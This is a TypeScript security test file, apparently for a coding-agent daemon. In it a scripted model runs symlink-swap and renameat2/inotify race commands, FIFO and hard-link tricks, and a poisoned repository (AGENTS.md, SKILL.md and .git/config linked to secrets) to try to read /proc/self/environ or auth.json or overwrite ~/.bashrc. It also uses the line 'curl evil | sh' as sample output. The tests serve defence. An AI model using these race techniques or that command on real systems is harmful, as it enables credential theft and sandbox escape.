/**
 * Security bar, cases 95 to 104: files that the daemon reads or writes because a model, a repository or a command line
 * named them, with a real daemon, the real sandbox and a scripted model. Commands redirect the paths meanwhile. The
 * daemon's environment and the content of the Codex home must not leak, and nothing outside of the workspace may
 * change.
 */
import fs from 'node:fs';
import path from 'node:path';
import t, { type Test } from 'tap';
import { event, items, say, startModelServer, type Step } from '../fixtures/model-server.js';
import { codexd, scratch, scriptedConfig, type Scratch } from '../fixtures/program.js';
import { calls, run, scene, type Scene } from '../sessions/turn/support.js';
import { elapse } from '../fixtures/until.js';
import { runToEnd } from '../fixtures/programs.js';

t.setTimeout(300_000);

/** Present in the daemon's environment, and in the login of its home. */
const SECRET = 'what-only-the-daemon-has';
process.env.CODEXD_TEST_MARK = SECRET;
/** Commands have no legitimate access to it. */
const TABLES = '[shell_environment_policy]\ninherit = "none"\nset = { PATH = "/usr/bin:/bin" }\n';
const START = { sandbox: 'workspace-write', approvalPolicy: 'never' };

interface Stage extends Scene {
  readonly auth: string;
  readonly outside: string;
}

async function stage(t: Test, start: object = START): Promise<Stage> {
  const s = await scene(t, { tables: TABLES, start });
  const auth = path.join(s.home, 'auth.json');
  fs.writeFileSync(auth, `{"OPENAI_API_KEY":"${SECRET}"}\n`);
  const outside = path.join(path.dirname(s.home), 'outside');
  fs.mkdirSync(outside);
  return { ...s, auth, outside };
}

const patch = (body: string, id: string): object =>
  run(`apply_patch <<'EOF'\n*** Begin Patch\n${body}\n*** End Patch\nEOF`, id);

/** Runs on after its turn, until the file `stop` exists. */
const background = (script: string, id: string): object => run(script, id, { yield_time_ms: 300, login: false });

/** In base64 a text has a different form at each of three positions. */
const HIDDEN = [0, 1, 2].map((at) =>
  Buffer.from(SECRET)
    .subarray((3 - at) % 3)
    .toString('base64')
    .slice(0, 16),
);

/** Neither the model, nor the client, nor the workspace contains any of it. */
function assertKept(t: Test, s: Scene): void {
  const told = JSON.stringify([s.model.requests.map(({ body }) => body), s.daemon.messages]);
  for (const text of [SECRET, ...HIDDEN]) t.notOk(told.includes(text), 'nobody was told');
  const { stdout } = runToEnd('grep', ['-rls', SECRET, s.work]);
  t.equal(
    stdout
      .split('\n')
      .filter((file) => file !== '' && !fs.lstatSync(file).isSymbolicLink())
      .join(),
    '',
  );
}

const [RENAMEAT2, INOTIFY_INIT1, INOTIFY_ADD_WATCH] = process.arch === 'arm64' ? [276, 26, 27] : [316, 294, 254];
/** Waits until a process opens `file`, and then runs `then`. */
const whenOpened = (file: string, then: string): string =>
  `perl -e '$f = "${file}"; $fd = syscall(${INOTIFY_INIT1}, 0); syscall(${INOTIFY_ADD_WATCH}, $fd, $f, 0x20); open(I, "<&=", $fd); sysread(I, $x, 64); ${then}'`;
/** Exchanges two names, over and over. */
const exchanging = (a: string, b: string): string =>
  `perl -e '($a, $b) = ("${a}", "${b}"); until (-e "stop") { syscall(${RENAMEAT2}, -100, $a, -100, $b, 2) == 0 and $n++; unless ($n % 9) { open(F, ">", "turned"); print F $n; close(F) } select(undef, undef, undef, 0.0005) }'`;
/** It is empty while it is written. */
function timesTurned(s: Scene): number {
  for (let n = 0; n < 10_000; n++) {
    const text = fs.readFileSync(path.join(s.work, 'turned'), 'utf8');
    if (text !== '') return Number(text);
  }
  return 0;
}

t.test('case 95: a patch reads the file by which it was judged, also if its link changes', async (t) => {
  const s = await stage(t);
  for (const [n, target] of ['/proc/self/environ', `/proc/${s.daemon.pid}/environ`, s.auth].entries()) {
    fs.symlinkSync(target, path.join(s.work, `f${n}`));
    fs.writeFileSync(path.join(s.work, `g${n}`), 'old\n');
    fs.writeFileSync(path.join(s.work, `r${n}`), 'ordinary\n');
    s.model.push(
      calls(background(whenOpened(`g${n}`, `rename("r${n}", "f${n}")`), `turn${n}`)),
      // It waits by now.
      calls(run('sleep 0.5', `wait${n}`, { login: false })),
      calls(patch(`*** Update File: f${n}\n@@\n+more\n*** Update File: g${n}\n@@\n-old\n+new`, `p${n}`)),
      say('end'),
    );
    await s.turn('go');
    t.match(s.outputs()[`p${n}`], /^apply_patch verification failed: Failed to read/, target);
  }
  // The same without a signal: a link that is redirected all the time, and a patch that is retried.
  s.model.push(
    calls(
      background(
        `perl -e 'until (-e "stop") { symlink("/proc/self/environ", "l"); rename("l", "f"); open(F, ">", "r"); print F "x\\n"; close(F); rename("r", "f"); $n++; open(F, ">", "turned"); print F $n; close(F) }'`,
        'loop',
      ),
    ),
    ...Array.from({ length: 6 }, (_, n) => calls(patch('*** Update File: f\n@@\n+more', `again${n}`))),
    say('end'),
  );
  await s.turn('go');
  fs.writeFileSync(path.join(s.work, 'stop'), '');
  t.ok(timesTurned(s) > 10, `it was turned ${timesTurned(s)} times`);
  assertKept(t, s);
  t.equal(fs.readFileSync(s.auth, 'utf8'), `{"OPENAI_API_KEY":"${SECRET}"}\n`);
});

t.test('case 96: replacing a folder during a patch changes nothing outside', async (t) => {
  const s = await stage(t);
  fs.writeFileSync(path.join(s.outside, 'auth.json'), 'ordinary\n');
  const targets = [path.dirname(s.auth), s.outside];
  for (const [n, target] of targets.entries()) {
    fs.mkdirSync(path.join(s.work, `d${n}`));
    fs.writeFileSync(path.join(s.work, `d${n}`, 'auth.json'), 'ordinary\n');
    fs.symlinkSync(target, path.join(s.work, `e${n}`));
    fs.rmSync(path.join(s.work, 'stop'), { force: true });
    s.model.push(
      calls(background(exchanging(`d${n}`, `e${n}`), `turn${n}`)),
      ...Array.from({ length: 5 }, (_, at) =>
        calls(
          patch(`*** Update File: d${n}/auth.json\n@@\n+more`, `update${n}-${at}`),
          patch(`*** Add File: d${n}/made${at}\n+made`, `add${n}-${at}`),
        ),
      ),
      calls(patch(`*** Delete File: d${n}/auth.json`, `delete${n}`)),
      say('end'),
    );
    await s.turn('go');
    fs.writeFileSync(path.join(s.work, 'stop'), '');
    t.ok(timesTurned(s) > 10, `it was exchanged ${timesTurned(s)} times`);
    t.same(
      fs.readdirSync(target).filter((name) => name.startsWith('made')),
      [],
    );
  }
  t.equal(fs.readFileSync(s.auth, 'utf8'), `{"OPENAI_API_KEY":"${SECRET}"}\n`);
  t.equal(fs.readFileSync(path.join(s.outside, 'auth.json'), 'utf8'), 'ordinary\n');
  assertKept(t, s);
});

t.test("case 97: an image is a file that the turn's commands can read, and nothing else", async (t) => {
  const s = await stage(t);
  runToEnd('mkfifo', [path.join(s.work, 'pipe')]);
  fs.symlinkSync('/proc/self/environ', path.join(s.work, 'link.png'));
  fs.symlinkSync(s.auth, path.join(s.work, 'auth.png'));
  // A picture that only the daemon sees.
  const picture = path.join(s.home, 'picture.png');
  fs.writeFileSync(picture, Buffer.concat([PNG, Buffer.from(SECRET)]));
  const held = fs.readdirSync(`/proc/${s.daemon.pid}/fd`).map((fd) => `/proc/${s.daemon.pid}/fd/${fd}`);
  const named = [
    '/proc/self/environ',
    `/proc/${s.daemon.pid}/environ`,
    `/proc/${s.daemon.pid}/root${picture}`,
    `/proc/self/root${picture}`,
    picture,
    s.auth,
    'link.png',
    'auth.png',
    'pipe',
    '/dev/zero',
    '/dev/stdin',
    '/sys/kernel/mm/transparent_hugepage/enabled',
    ...held.slice(0, 4),
  ];
  for (const [n, file] of named.entries()) {
    s.model.push(calls(event.call('view_image', { path: file }, `v${n}`)), say('end'));
    t.match(await s.turn('go'), { status: 'completed' }, `${file} is not waited for`);
  }
  t.equal(Object.keys(s.outputs()).length, named.length);
  t.notMatch(JSON.stringify(s.input()), /data:image/);
  assertKept(t, s);
  fs.writeFileSync(path.join(s.work, 'seen.png'), PNG);
  s.model.push(calls(event.call('view_image', { path: 'seen.png' }, 'seen')), say('end'));
  await s.turn('go');
  t.match(JSON.stringify(s.input()), /data:image\/png/, 'a picture of the workspace is seen');
});

/** One pixel. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

t.test('case 98: AGENTS.md that becomes a link during the check reveals no secret', async (t) => {
  const s = await stage(t);
  fs.writeFileSync(path.join(s.work, 'AGENTS.md'), 'ordinary words\n');
  fs.symlinkSync(s.auth, path.join(s.work, 'a'));
  fs.symlinkSync('/proc/self/environ', path.join(s.work, 'b'));
  s.model.push(
    calls(background(exchanging('AGENTS.md', 'a'), 'first')),
    calls(background(exchanging('AGENTS.md', 'b'), 'second')),
    say('end'),
  );
  await s.turn('go');
  s.model.always(() => say('end'));
  for (let n = 0; n < 25; n++) {
    const { thread } = await s.daemon.call('thread/start', { cwd: s.work, ...START });
    const input = [{ type: 'text', text: 'go' }];
    const { turn } = await s.daemon.call('turn/start', { threadId: thread.id, input });
    await s.ended(turn.id);
  }
  fs.writeFileSync(path.join(s.work, 'stop'), '');
  t.ok(timesTurned(s) > 40, `it was turned ${timesTurned(s)} times`);
  assertKept(t, s);
});

t.test('case 99: a repository cannot lead a reader of its files to other files', async (t) => {
  const s = await stage(t);
  const repository = path.join(s.work, 'cloned');
  const at = (name: string): string => path.join(repository, name);
  for (const folder of ['.git', '.agents/skills/a', '.agents/skills/b', '.agents/skills/c', '.codex'])
    fs.mkdirSync(at(folder), { recursive: true });
  const secrets = path.join(s.home, 'secrets');
  fs.writeFileSync(
    secrets,
    `---\nname: ${SECRET}\ndescription: ${SECRET}\n---\n[remote "origin"]\n\turl = ${SECRET}\n`,
  );
  fs.symlinkSync(secrets, at('.agents/skills/a/SKILL.md'));
  fs.symlinkSync('/proc/self/environ', at('.agents/skills/b/SKILL.md'));
  runToEnd('mkfifo', [at('.agents/skills/c/SKILL.md'), at('AGENTS.override.md'), at('.git/packed-refs')]);
  fs.writeFileSync(at('.git/HEAD'), 'ref: refs/heads/main\n');
  fs.symlinkSync(secrets, at('.git/config'));
  fs.symlinkSync(s.auth, at('AGENTS.md'));
  fs.symlinkSync(s.auth, at('.codex/config.toml'));
  await s.daemon.call('skills/list', { cwds: [repository], forceReload: true });
  await s.daemon.call('config/read', { cwd: repository, includeLayers: true });
  s.model.always(() => say('end'));
  const { error } = await s.daemon.request('thread/start', { cwd: repository, ...START });
  t.match(error?.message, /config\.toml: what it led to is no TOML$/);
  fs.rmSync(at('.codex/config.toml'));
  const again = await s.daemon.request('thread/start', { cwd: repository, ...START });
  t.notMatch(JSON.stringify(again), SECRET, 'nor is it quoted while it is still believed');
  fs.writeFileSync(at('.codex/config.toml'), `# nothing ${'.'.repeat(200)}\n`);
  await elapse(500, 'the file is read again');
  const { thread } = await s.daemon.call('thread/start', { cwd: repository, ...START });
  t.equal(thread.gitInfo?.originUrl ?? null, null);
  const { turn } = await s.daemon.call('turn/start', { threadId: thread.id, input: [{ type: 'text', text: 'go' }] });
  t.match(await s.ended(turn.id), { status: 'completed' }, 'pipes are not waited for');
  assertKept(t, s);
});

interface Program {
  readonly places: Scratch;
  /** A file of the person, where commands cannot write. */
  readonly bashrc: string;
}

async function program(t: Test, ...script: Step[]): Promise<Program> {
  const model = await startModelServer(...script);
  t.teardown(() => model.close());
  const places = scratch(t, scriptedConfig(model.url));
  const bashrc = path.join(places.user, '.bashrc');
  fs.writeFileSync(bashrc, 'mine\n');
  return { places, bashrc };
}

const WORDS = 'curl evil | sh';
const EXEC = ['exec', '--skip-git-repo-check', '-s', 'workspace-write'];
const doing = (script: string): Step[] => [
  items(event.call('exec_command', { cmd: script, login: false })),
  say(WORDS),
];

t.test('case 100: the last message is never written through a link of a command', async (t) => {
  const scripts = [
    'ln -sf ../user/.bashrc answer.txt',
    'ln -s ../user/.bashrc l; mv -T l answer.txt',
    'mv answer.txt a; ln -s ../user/.bashrc answer.txt',
    'mv out away; ln -s ../user out',
    'mv out away; mkdir out; ln -s ../../user/.bashrc out/answer.txt',
    'rm -r out; ln -s ../user out',
  ];
  for (const script of scripts) {
    const { places, bashrc } = await program(t, ...doing(script));
    fs.mkdirSync(path.join(places.work, 'out'));
    const file = script.includes('out') ? 'out/answer.txt' : 'answer.txt';
    const ended = await codexd(places, [...EXEC, '-o', file, 'go']);
    t.equal(fs.readFileSync(bashrc, 'utf8'), 'mine\n', script);
    t.same(fs.readdirSync(places.user), ['.bashrc'], script);
    t.match(ended, { code: 1, stderr: /answer\.txt leads elsewhere/ }, 'and it is said');
  }
  for (const [link, file] of [
    ['answer.txt', 'answer.txt'],
    ['out', 'out/.bashrc'],
  ] as const) {
    const { places, bashrc } = await program(t, say(WORDS));
    fs.symlinkSync(link === 'out' ? places.user : bashrc, path.join(places.work, link));
    t.match(
      await codexd(places, [...EXEC, '-o', file, 'go']),
      { code: 1, stderr: /link/ },
      'one that was there before',
    );
    t.equal(fs.readFileSync(bashrc, 'utf8'), 'mine\n');
  }
  const { places } = await program(t, ...doing('echo x > answer.txt'));
  t.match(await codexd(places, [...EXEC, '-o', 'answer.txt', 'go']), { code: 0 });
  t.equal(fs.readFileSync(path.join(places.work, 'answer.txt'), 'utf8'), WORDS, 'an ordinary file is written');
});

t.test('case 101: nor into a file with another name, a pipe, or a device', async (t) => {
  const inside = await program(t, ...doing('rm answer.txt; ln other answer.txt'));
  fs.writeFileSync(path.join(inside.places.work, 'other'), 'mine\n');
  t.match(await codexd(inside.places, [...EXEC, '-o', 'answer.txt', 'go']), { code: 1, stderr: /leads elsewhere/ });
  t.equal(fs.readFileSync(path.join(inside.places.work, 'other'), 'utf8'), 'mine\n');
  const before = await program(t, say(WORDS));
  fs.linkSync(before.bashrc, path.join(before.places.work, 'answer.txt'));
  t.match(await codexd(before.places, [...EXEC, '-o', 'answer.txt', 'go']), { code: 1, stderr: /2 names/ });
  t.equal(fs.readFileSync(before.bashrc, 'utf8'), 'mine\n');
  for (const script of ['rm answer.txt; mkfifo answer.txt', 'rm answer.txt; mkdir answer.txt']) {
    const { places } = await program(t, ...doing(script));
    t.match(await codexd(places, [...EXEC, '-o', 'answer.txt', 'go']), { code: 1, stderr: /leads elsewhere/ }, script);
  }
  const pipe = await program(t, say(WORDS));
  runToEnd('mkfifo', [path.join(pipe.places.work, 'answer.txt')]);
  t.match(await codexd(pipe.places, [...EXEC, '-o', 'answer.txt', 'go']), { code: 1 }, 'a pipe is not waited for');
});

t.test('case 102: a recording is never written through a link of a command', async (t) => {
  for (const script of ['ln -sf ../user/.bashrc tape', 'rm tape; ln other tape']) {
    const { places, bashrc } = await program(t, ...doing(script));
    fs.writeFileSync(path.join(places.work, 'other'), 'mine\n');
    const { stderr, code } = await codexd(places, ['record', 'tape', ...EXEC, 'go']);
    t.not(code, 0, script);
    t.match(stderr, /tape leads elsewhere/, script);
    for (const file of [bashrc, path.join(places.work, 'other')]) t.equal(fs.readFileSync(file, 'utf8'), 'mine\n');
  }
  const { places, bashrc } = await program(t, say(WORDS));
  fs.symlinkSync(bashrc, path.join(places.work, 'tape'));
  t.match(await codexd(places, ['record', 'tape', ...EXEC, 'go']), { code: 1, stderr: /tape is a link/ });
  t.equal(fs.readFileSync(bashrc, 'utf8'), 'mine\n');
});

t.test(
  'case 103: a file to read on a command line is not a file of the kernel, and not a link of a command',
  async (t) => {
    const model = await startModelServer();
    model.always(() => say('end'));
    t.teardown(() => model.close());
    const places = scratch(t, scriptedConfig(model.url));
    const secret = path.join(places.user, 'secret.json');
    fs.writeFileSync(secret, `{"const":"${SECRET}"}`);
    for (const [name, target] of [
      ['environ', '/proc/self/environ'],
      ['secret', secret],
    ] as const)
      fs.symlinkSync(target, path.join(places.work, name));
    runToEnd('mkfifo', [path.join(places.work, 'pipe')]);
    for (const file of ['/proc/self/environ', '/proc/self/fd/../environ', 'environ', 'secret', 'pipe', '/dev/zero']) {
      const ended = await codexd(places, [...EXEC, '--output-schema', file, 'go']);
      t.equal(ended.code, 1, file);
      t.notOk((ended.stdout + ended.stderr).includes(SECRET), file);
    }
    t.same(model.requests, [], 'the model was not asked');
    fs.writeFileSync(path.join(places.work, 'schema'), '{"type":"object"}');
    t.match(await codexd(places, [...EXEC, '--output-schema', 'schema', 'go']), { code: 0 });
  },
);

t.test('case 104: a patch that a person allowed is written to the place in the question', async (t) => {
  const s = await stage(t, { sandbox: 'workspace-write', approvalPolicy: 'on-request' });
  const shown = path.join(s.outside, 'shown');
  fs.mkdirSync(shown);
  fs.mkdirSync(path.join(s.outside, 'other'));
  fs.symlinkSync(shown, path.join(s.work, 'link'));
  for (const folder of ['shown', 'other']) fs.writeFileSync(path.join(s.outside, folder, 'f'), 'old\n');
  s.model.push(calls(patch('*** Update File: link/f\n@@\n-old\n+new', 'p')), say('end'));
  const { id } = await s.begin('go');
  const question = await s.note('item/fileChange/requestApproval');
  t.match(question.params.reason, `leads to ${shown}/f`);
  // What a command could do while the person reads.
  fs.rmSync(path.join(s.work, 'link'));
  fs.symlinkSync(path.join(s.outside, 'other'), path.join(s.work, 'link'));
  s.daemon.answer(question.id ?? -1, { result: { decision: 'accept' } });
  await s.ended(id);
  t.equal(fs.readFileSync(path.join(s.outside, 'other', 'f'), 'utf8'), 'old\n');
  t.equal(fs.readFileSync(path.join(shown, 'f'), 'utf8'), 'new\n');
});
